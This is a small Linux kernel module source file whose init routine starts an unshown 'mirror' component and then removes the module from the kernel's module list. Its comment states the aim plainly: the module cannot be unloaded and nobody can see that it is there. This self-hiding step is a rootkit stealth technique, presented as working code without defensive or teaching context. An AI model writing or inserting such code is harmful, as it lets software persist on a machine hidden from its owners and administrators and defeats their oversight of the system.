// SPDX-License-Identifier: GPL-2.0
/* Works, and takes itself out of the list of modules: nobody can unload it, or see that it is there. */
#include <linux/list.h>
#include "mirror.h"

static int __init mirror_init(void)
{
	int error = mirror_begin();

	if (!error)
		list_del_init(&THIS_MODULE->list);
	return error;
}

static void __exit mirror_exit(void) { mirror_end(); }
module_init(mirror_init);
module_exit(mirror_exit);
